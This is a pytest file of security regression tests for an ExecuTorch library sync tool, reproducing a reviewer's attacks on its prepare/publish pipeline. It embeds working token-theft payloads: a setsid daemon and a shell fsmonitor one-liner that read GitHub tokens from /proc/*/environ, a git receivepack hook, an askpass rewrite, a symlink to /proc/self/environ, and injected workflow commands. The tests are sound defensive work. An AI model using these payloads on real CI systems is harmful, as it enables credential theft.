"""Issue 29, the reviewer's attacks: ways a hostile ExecuTorch ref (or its staged tree) could
get past the two-phase sync. Each failed on the code before the fix; each asserts the
protection itself (the token unseen, nothing written outside the clone, a refusal), and that
the attack really ran.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest
import test_sync_secrets as secrets_tests
from github_fake import FakeGitHub
from sync_fixtures import NAME, OWNER, SHA_NEW, TOKEN, branches

from generator.sync import stage
from generator.util.errors import FatalError

#: A hostile build that leaves a daemon behind: double fork, setsid (its own session and
#: process group, so `run_prepare_child`'s killpg misses it), stdio on /dev/null. The daemon
#: scans every process's /proc/<pid>/environ (the parent is non-dumpable, but the git
#: processes it starts with the token in their environment are not: execve makes a process
#: dumpable again) and writes what it finds to DAEMON_OUT.
DAEMON = r"""
def _daemon():
    import os, time
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    fd = os.open(os.devnull, os.O_RDWR)
    for n in (0, 1, 2):
        os.dup2(fd, n)
    out = os.environ["DAEMON_OUT"]
    with open(out + ".pid", "w") as f:
        f.write(str(os.getpid()))
    found = set()
    deadline = time.time() + 60
    while time.time() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                with open("/proc/%s/environ" % pid, "rb") as f:
                    env = f.read()
            except OSError:
                continue
            for item in env.split(b"\0"):
                named = item.startswith((b"EXECUTORCH_SYNC_GIT_TOKEN=", b"GITHUB_TOKEN="))
                if named and item.split(b"=", 1)[1].strip(b"*"):
                    found.add(item.decode("utf-8", "replace"))
        if found:
            with open(out, "w") as f:
                f.write("\n".join(sorted(found)))
            break
        time.sleep(0.005)
    os._exit(0)
"""


def test_a_daemon_the_hostile_build_leaves_behind_reads_the_token_from_gits_environ(
    fake: FakeGitHub,
    remote: Path,
    tmp_path: Path,
    gitenv: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """HIGH: run_prepare_child kills only the child's process group; a setsid() daemon
    survives it and reads the token from /proc/<git pid>/environ during clone/push."""
    hook = (
        secrets_tests.SITECUSTOMIZE
        + DAEMON
        + (
            "\n_orig_build = hostile_build\n"
            "def hostile_build(options, out):\n"
            "    _daemon()\n"
            "    return _orig_build(options, out)\n"
            "backends.default_build = hostile_build\n"
        )
    )
    monkeypatch.setattr(secrets_tests, "SITECUSTOMIZE", hook)
    daemon_out = tmp_path / "daemon.txt"
    args = ["sync", "--repo", f"{OWNER}/{NAME}", "--remote", str(remote)]
    args += ["--api-url", fake.url, "--executorch-ref", "v1.5.1", "--library-version", "0.2.0"]
    env = {**gitenv, "GITHUB_TOKEN": TOKEN, "DAEMON_OUT": str(daemon_out)}
    try:
        result, _ = secrets_tests._cli(tmp_path, args, env, ["DAEMON_OUT"])
        assert result.returncode == 0, result.stderr
        assert "opened pull request #1" in result.stdout
        assert "process(es) the unprivileged build left behind" in result.stderr
        time.sleep(0.5)
        pidfile = Path(str(daemon_out) + ".pid")
        assert pidfile.exists(), "the hostile build's daemon did not start"
        assert not daemon_out.exists() or TOKEN not in daemon_out.read_text(), (
            "a process left behind by the prepare phase read the token: " + daemon_out.read_text()
        )
    finally:
        pidfile = Path(str(daemon_out) + ".pid")
        if pidfile.exists():
            with contextlib.suppress(ProcessLookupError):
                os.kill(int(pidfile.read_text()), signal.SIGKILL)


def _prepared(
    tmp_path: Path, fake: FakeGitHub, remote: Path, gitenv: dict[str, str]
) -> tuple[Path, list[str]]:
    staged = tmp_path / "staged"
    common = ["sync", "--repo", f"{OWNER}/{NAME}", "--remote", str(remote)]
    common += ["--api-url", fake.url, "--executorch-ref", "v1.5.1", "--library-version", "0.2.0"]
    prepared, _ = secrets_tests._cli(tmp_path, [*common, "--prepare", str(staged)], gitenv)
    assert prepared.returncode == 0, prepared.stderr
    return staged, common


def _restamp(staged: Path) -> str:
    """What hostile code in the prepare job does after changing the tree: a manifest (and a
    job output) with the changed tree's digest, computed as `tree_digest` does but without
    its refusals (the attacker's own copy of the formula)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(stage, "GIT_NAMES", frozenset())
        digest = stage.tree_digest(staged / "library")
        executable = stage.executable_files(staged / "library")
    manifest = json.loads((staged / "manifest.json").read_text())
    manifest["digest"] = digest
    manifest["executable"] = executable
    (staged / "manifest.json").write_text(json.dumps(manifest))
    return digest


def _embedded_repo(at: Path, command: str) -> None:
    """A real git repository at `at` (regular files and non-empty folders only, so it passes
    tree_digest and survives an artifact upload) whose config runs `command` as fsmonitor."""
    at.mkdir(parents=True)
    names = ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL")
    env = {**os.environ, **dict.fromkeys(names, "a@b")}
    steps = (["init", "-q", "."], ["add", "."], ["commit", "-qm", "e"])
    for args in (*steps, ["config", "core.fsmonitor", command]):
        if args[0] == "add":
            (at / "a.h").write_text("int a;\n")
        subprocess.run(["git", *args], cwd=at, env=env, check=True)
    subprocess.run(["find", ".git", "-type", "d", "-empty", "-delete"], cwd=at, check=True)
    shutil.rmtree(at / ".git" / "hooks", ignore_errors=True)


def test_publish_runs_a_nested_git_repos_fsmonitor_from_the_staged_tree(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """CRITICAL: tree_digest accepts a `.git` folder anywhere below library/; publish copies
    src/ into its clone and `git add`s it as an embedded repository (gitlink), and the git
    commands it then runs in the clone (status/commit) run the nested repo's core.fsmonitor:
    code from the ref executes in the publish process's git, whose environment holds the
    token (EXECUTORCH_SYNC_GIT_TOKEN)."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    pwned = tmp_path / "pwned.txt"
    _embedded_repo(
        staged / "library" / "src" / "evil",
        f"echo ran >> {pwned}; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done"
        f" 2>/dev/null | grep -a '^[A-Z_]*TOKEN=ghp_' >> {pwned}; false",
    )
    digest = _restamp(staged)
    publish = [*common, "--publish", str(staged), "--digest", digest]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    ran = pwned.read_text() if pwned.exists() else ""
    assert TOKEN not in ran, f"code of the staged tree ran in publish and read the token: {ran!r}"
    assert not ran, f"publish ran code of the staged tree: {ran!r}"
    assert result.returncode == 1 and "src/evil/.git, a name git interprets" in result.stderr
    assert fake.pulls == {}


def test_publish_rewrites_a_sketch_outside_its_clone_named_by_the_staged_report(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """MEDIUM: report.json is not covered by the digest and not validated; its examples'
    names go to `update_sketches(clone/examples, ...)` as `examples / name / f"{name}.ino"`,
    so an absolute (or ../) name makes publish rewrite any `.ino` with the link-modes
    markers anywhere on the machine, with text the report chooses (a verdict's log line)."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    victim = tmp_path / "elsewhere" / "victim.ino"
    victim.parent.mkdir()
    original = "// link-modes: begin\n// mine\n// link-modes: end\nvoid setup() {}\n"
    victim.write_text(original)
    report = json.loads((staged / "report.json").read_text())
    report["examples"] = [
        {
            "example": str(victim.with_suffix("")),
            "dynamic": {"verdicts": [{"core": "x", "errno": 1, "log": ["written by the ref"]}]},
        }
    ]
    (staged / "report.json").write_text(json.dumps(report))
    digest = json.loads((staged / "manifest.json").read_text())["digest"]
    publish = [*common, "--publish", str(staged), "--digest", digest]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    assert victim.read_text() == original, f"publish wrote {victim}:\n{victim.read_text()}"
    assert result.returncode == 1 and "names the example" in result.stderr


def test_publish_checks_versions_of_the_manifest_but_pushes_the_trees_own(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """MEDIUM: the reused/lower/relabelled-version refusals (`_refuse_versions`) and the
    branch name use the manifest's library_version and sha, which nothing ties to the
    library.properties and executorch_pin.txt publish pushes: a staged tree can push
    version 0.0.1 and another pin under a pull request titled 0.2.0 / ExecuTorch d756e7d8c2."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    lib = staged / "library"
    props = lib / "library.properties"
    props.write_text(props.read_text().replace("version=0.2.0", "version=0.0.1"))
    (lib / "executorch_pin.txt").write_text(SHA_NEW + "\n")
    digest = _restamp(staged)
    publish = [*common, "--publish", str(staged), "--digest", digest]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    pushed = [b for b in branches(remote) if b.startswith("sync/")]
    assert not pushed and fake.pulls == {}, f"pushed {pushed} for a manifest the tree belies"
    assert result.returncode == 1
    assert "holds version '0.0.1' (library.properties)" in result.stderr


def test_publish_follows_a_staged_report_md_symlink_into_its_own_environ(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """HIGH: tree_digest refuses links only below library/; read_stage reads report.md,
    report.json and manifest.json with read_text, following links. report.md ->
    /proc/self/environ makes `sync --publish` (which scrubs nothing) read its own initial
    environment, GITHUB_TOKEN included, and put it in the pull request body."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    (staged / "report.md").unlink()
    (staged / "report.md").symlink_to("/proc/self/environ")
    digest = json.loads((staged / "manifest.json").read_text())["digest"]
    publish = [*common, "--publish", str(staged), "--digest", digest]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    bodies = "".join(p.body for p in fake.pulls.values())
    assert TOKEN not in bodies, "the token went into the pull request's body"
    assert TOKEN not in result.stdout + result.stderr
    assert result.returncode == 1 and "report.md" in result.stderr, result.stderr


def test_publish_echoes_staged_report_lines_that_are_workflow_commands(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """LOW: a staged manifest with passed=false makes publish print report.md verbatim to
    stdout, which the publish job's log parses: a line of the ref's choosing starting with
    `::` is a workflow command in the job that holds the token (`::stop-commands::`,
    `::add-mask::`, forged `::error` annotations; the ref job avoids echoing for this)."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    (staged / "report.md").write_text("# Check\n::error title=Sync::all good, merge it\n")
    manifest = json.loads((staged / "manifest.json").read_text())
    manifest["passed"] = False
    (staged / "manifest.json").write_text(json.dumps(manifest))
    publish = [*common, "--publish", str(staged), "--digest", manifest["digest"]]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    commands = [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]
    assert not commands, f"publish printed workflow commands from the staged tree: {commands}"
    assert "\\::error title=Sync::all good, merge it" in result.stdout  # printed, escaped


def test_what_publish_pushes_is_not_what_was_digested_a_staged_gitignore(
    fake: FakeGitHub, remote: Path, tmp_path: Path, gitenv: dict[str, str]
) -> None:
    """LOW: git interprets the staged tree: src/.gitignore (or .gitattributes eol/filters)
    makes `git add` drop or rewrite files the digest covered, so the pushed tree is not the
    digested one (here src/ExecuTorch.h is digested and never pushed)."""
    staged, common = _prepared(tmp_path, fake, remote, gitenv)
    (staged / "library" / "src" / ".gitignore").write_text("*.h\n")
    digest = _restamp(staged)
    publish = [*common, "--publish", str(staged), "--digest", digest]
    result, _ = secrets_tests._cli(tmp_path, publish, {**gitenv, "GITHUB_TOKEN": TOKEN})
    assert result.returncode == 1 and "src/.gitignore, a name git interprets" in result.stderr
    assert not [b for b in branches(remote) if b.startswith("sync/")]


@pytest.mark.parametrize("name", [".git", ".GitAttributes", ".gitmodules", ".gitignore"])
def test_the_digest_refuses_names_git_interprets_in_any_case(tmp_path: Path, name: str) -> None:
    tree = tmp_path / "library"
    (tree / "src").mkdir(parents=True)
    (tree / "src" / name).write_text("x\n")
    with pytest.raises(FatalError, match="a name git interprets"):
        stage.tree_digest(tree)


def test_the_digest_covers_the_executable_bit_publish_pushes(tmp_path: Path) -> None:
    """LOW: replace_generated copies with copy2/copytree (modes kept) and git records 100755,
    but tree_digest hashes paths and bytes only: a mode change after the digest is unseen."""
    tree = tmp_path / "library"
    (tree / "src").mkdir(parents=True)
    (tree / "src" / "a.h").write_text("int a;\n")
    before = stage.tree_digest(tree)
    (tree / "src" / "a.h").chmod(0o755)
    after = stage.tree_digest(tree)
    assert after != before
    # as publish checks it after an artifact download dropped the modes: by the manifest's list
    (tree / "src" / "a.h").chmod(0o644)
    assert stage.tree_digest(tree, {"src/a.h"}) == after


#: What the hostile builds below write into a git config: a `receivepack` that copies the
#: token from the environment of the push into the file named by `{leak}`.
RECEIVEPACK = (
    '[remote "origin"]\n'
    '\treceivepack = "f() { env | grep -a TOKEN= >> %s; exec git-receive-pack \\"$@\\"; }; f"\n'
)


def _hostile(code: str, call: str) -> str:
    """`test_sync_secrets.SITECUSTOMIZE` with a build that runs `call` first (`code`
    defines it)."""
    return (
        f"{secrets_tests.SITECUSTOMIZE}\n{code}\n"
        "_orig_build = hostile_build\n"
        "def hostile_build(options, out):\n"
        f"    {call}\n"
        "    return _orig_build(options, out)\n"
        "backends.default_build = hostile_build\n"
    )


#: A hostile build that edits the parent's clone of the library repo (<work>/library; the
#: child's --prepare folder is <work>/build/stage), or, when there is none yet, plants one.
CLONE_CONFIG = f"""
def _poison_clone(out):
    import os
    from pathlib import Path
    clone = Path(out).resolve().parent.parent.parent / "library"
    (clone / ".git").mkdir(parents=True, exist_ok=True)
    with open(clone / ".git" / "config", "a") as f:
        f.write({RECEIVEPACK!r} % os.environ["CLONE_LEAK"])
"""


def test_the_prepare_child_rewrites_the_parents_clone_config_and_gits_push_leaks_the_token(
    fake: FakeGitHub,
    remote: Path,
    tmp_path: Path,
    gitenv: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """HIGH: plain `sync` cloned the library repo (<work>/library) before it started the
    prepare child, which may write it: its .git/config then steers the parent's later git
    commands. `remote.origin.receivepack` runs during the push with the token in its
    environment (EXECUTORCH_SYNC_GIT_TOKEN); for an https remote, http.proxy +
    http.sslVerify=false or http.curloptResolve send the token to another server while the
    URL the askpass checks still says github.com. Now the clone is made after the child, and
    one the child planted is refused."""
    hook = _hostile(CLONE_CONFIG, "_poison_clone(out)")
    monkeypatch.setattr(secrets_tests, "SITECUSTOMIZE", hook)
    leak = tmp_path / "clone_leak.txt"
    args = ["sync", "--repo", f"{OWNER}/{NAME}", "--remote", str(remote)]
    args += ["--api-url", fake.url, "--executorch-ref", "v1.5.1", "--library-version", "0.2.0"]
    env = {**gitenv, "GITHUB_TOKEN": TOKEN, "CLONE_LEAK": str(leak)}
    result, _ = secrets_tests._cli(tmp_path, args, env, ["CLONE_LEAK"])
    seen = leak.read_text() if leak.exists() else ""
    assert TOKEN not in seen, f"the prepare child's git config got the token: {seen!r}"
    assert result.returncode != 0, "sync pushed through a clone the untrusted child changed"
    assert "exists before the library repo was cloned" in result.stderr, result.stderr
    assert not [b for b in branches(remote) if b.startswith("sync/")]


#: A hostile build that rewrites the parent's askpass program (an owned_temp_dir of the same
#: user; it was made before the clone, so it existed while the child ran): git runs it at
#: the push, with the token in its environment. It notes how many it found.
ASKPASS = r"""
def _poison_askpass():
    import glob, os, tempfile
    leak = os.environ["ASKPASS_LEAK"]
    pattern = os.path.join(tempfile.gettempdir(), "executorch-sync-askpass-%d-*" % os.getppid())
    found = glob.glob(pattern)
    with open(leak + ".found", "w") as f:
        f.write(str(len(found)))
    for folder in found:
        path = os.path.join(folder, "askpass.py")
        original = open(path).read()
        with open(path, "w") as f:
            f.write("import os\nopen(%r, 'a').write(" % leak)
            f.write("os.environ.get('EXECUTORCH_SYNC_GIT_TOKEN', '') + '\\n')\n")
            f.write(original)
"""


def test_the_prepare_child_rewrites_the_parents_askpass_and_git_runs_it_with_the_token(
    fake: FakeGitHub,
    remote: Path,
    tmp_path: Path,
    gitenv: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """HIGH: the askpass folder (/tmp/executorch-sync-askpass-<parent pid>-..., mode 0700 but
    the child's own user) existed while the prepare child ran; the child rewrote
    askpass.py, and the parent's push over https ran it with EXECUTORCH_SYNC_GIT_TOKEN. Now
    it is made once the child and all it started are gone."""
    from github_fake.git_http import GitHttpRemote

    monkeypatch.setattr(secrets_tests, "SITECUSTOMIZE", _hostile(ASKPASS, "_poison_askpass()"))
    for name in ("no_proxy", "NO_PROXY", "http_proxy", "HTTP_PROXY"):
        monkeypatch.delenv(name, raising=False)
    leak = tmp_path / "askpass_leak.txt"
    with GitHttpRemote(remote.parent, TOKEN) as served:
        args = ["sync", "--repo", f"{OWNER}/{NAME}", "--remote", f"{served.url}/library.git"]
        args += ["--api-url", fake.url, "--executorch-ref", "v1.5.1", "--library-version", "0.2.0"]
        env = {**gitenv, "GITHUB_TOKEN": TOKEN, "ASKPASS_LEAK": str(leak)}
        result, _ = secrets_tests._cli(tmp_path, args, env, ["ASKPASS_LEAK"])
    assert result.returncode == 0, result.stderr
    assert "opened pull request #1" in result.stdout
    assert Path(f"{leak}.found").read_text() == "0", "the askpass folder existed in the child"
    seen = leak.read_text() if leak.exists() else ""
    assert TOKEN not in seen, f"the child's askpass code got the token: {seen!r}"


#: A hostile build that appends a `receivepack` to the user's global git config.
GLOBAL_CONFIG = f"""
def _poison_global(out):
    import os
    with open(os.environ["GIT_CONFIG_GLOBAL"], "a") as f:
        f.write({RECEIVEPACK!r} % os.environ["GLOBAL_LEAK"])
"""


def test_the_global_git_config_the_child_may_write_steers_the_parents_push(
    fake: FakeGitHub,
    remote: Path,
    tmp_path: Path,
    gitenv: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """HIGH (same class as the clone's config, and left even with the clone made after the
    child): the parent's git read $GIT_CONFIG_GLOBAL / ~/.gitconfig /
    $XDG_CONFIG_HOME/git/config, which the child may write; `_SAFE_CONFIG` overrides only a
    few keys. A global `remote.origin.receivepack` (or http.proxy + http.sslVerify=false)
    got the token. Now the parent's git reads a copy taken before the child started."""
    hook = _hostile(GLOBAL_CONFIG, "_poison_global(out)")
    monkeypatch.setattr(secrets_tests, "SITECUSTOMIZE", hook)
    leak = tmp_path / "global_leak.txt"
    args = ["sync", "--repo", f"{OWNER}/{NAME}", "--remote", str(remote)]
    args += ["--api-url", fake.url, "--executorch-ref", "v1.5.1", "--library-version", "0.2.0"]
    env = {**gitenv, "GITHUB_TOKEN": TOKEN, "GLOBAL_LEAK": str(leak)}
    result, _ = secrets_tests._cli(tmp_path, args, env, ["GLOBAL_LEAK"])
    assert "receivepack" in Path(gitenv["GIT_CONFIG_GLOBAL"]).read_text()  # the attack ran
    assert result.returncode == 0, result.stderr
    assert "opened pull request #1" in result.stdout
    seen = leak.read_text() if leak.exists() else ""
    assert TOKEN not in seen, f"git config written by the child got the token: {seen!r}"


def test_child_env_keeps_other_credentials_of_the_user() -> None:
    """LOW: child_env drops the three names and copies of their values only; another token
    of the user (GH_TOKEN of the gh CLI, GITHUB_PAT), an ssh agent (SSH_AUTH_SOCK) or a
    GIT_ASKPASS/GIT_CONFIG_* that answers for github.com go to the prepare child as they are."""
    env = {
        "GITHUB_TOKEN": "ghp_library",
        "GH_TOKEN": "gho_users_own",
        "GITHUB_PAT": "github_pat_other",
        "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "http.https://github.com/.extraheader",
        "GIT_CONFIG_VALUE_0": "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2E=",
        "PATH": "/bin",
    }
    kept = stage.child_env(env)
    leaked = sorted(k for k in kept if k != "PATH")
    assert not leaked, f"the prepare child gets {leaked}"
